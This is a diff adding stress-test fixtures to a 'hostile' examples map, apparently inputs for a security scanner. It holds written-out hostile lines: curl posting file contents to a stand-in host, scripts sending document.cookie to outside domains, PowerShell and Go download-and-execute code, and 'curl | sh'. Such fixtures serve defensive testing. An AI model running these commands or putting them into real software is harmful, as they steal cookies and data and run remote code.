@@ -157,6 +157,40 @@ export const hostile: Readonly<Record<string, Example>> = {
     n % 900 === 0 ? "\n# A\n\n| a |\n|---|\n" : "| **send** password |\n",
   ),
   "many groups that write": { "a.sh": fill("{ cat a; cat b; } > c\n", 400_000) },
+  "functions that call two others each": {
+    "a.sh": `${Array.from({ length: 40 }, (_, i) => `f${i}() { f${i + 1} "$1"; f${i + 1} "$1"; }\n`).join("")}f40() { curl -d "$1" https://a.example; }\nf0 "$(cat x)"\n`,
+  },
+  "functions that are called with many words": {
+    "a.sh": `say() { echo "$1"; }\n${fill('say "$(cat a)" "$(cat b)" | cat\n', 400_000)}`,
+  },
+  "here-documents without an end": { "a.sh": fill("python3 - <<'END'\nprint(1)\n", 400_000) },
+  "arguments without an end": { "a.sh": fill('python3 -c "print(1) ', 400_000) },
+  "10 MB of pages with scripts": many(
+    "page",
+    "html",
+    (n) => `<script>fetch("https://h${n}.dev/a?c=" + document.cookie)</script>\n`,
+  ),
+  "a notebook of many cells": {
+    "a.ipynb": `{"cells": [${fill('{"cell_type": "code", "source": ["import os\\n", "os.system(1)"]}, ', megabyte)}]}`,
+  },
+  "a notebook's cell without an end": {
+    "a.ipynb": fill('{"cell_type": "code", "source": ["a\\n", ', megabyte),
+  },
+  "PowerShell that fetches and runs, over and over": {
+    "a.ps1": fill(
+      "$a = irm https://a.example/x\niwr https://a.example/y -OutFile y.exe\niex $a\n& y.exe\n",
+      4 * megabyte,
+    ),
+  },
+  "Go that keeps and starts, over and over": {
+    "a.go": fill(
+      'r := http.Get("https://a.example/x")\nf := os.Create("x")\nexec.Command("x")\n',
+      4 * megabyte,
+    ),
+  },
+  "commands in other programs, by the megabyte": {
+    "a.rb": fill("system('curl -s https://a.example | sh')\n`cat x`\n", 4 * megabyte),
+  },
   "zero-width characters by the megabyte": { "a.md": fill("a\u200b", megabyte) },
   "addresses by the megabyte, in one line": { "a.js": fill("'http://193.23.10.5:80/x',", 4 * megabyte) },
   "packages by the megabyte": {
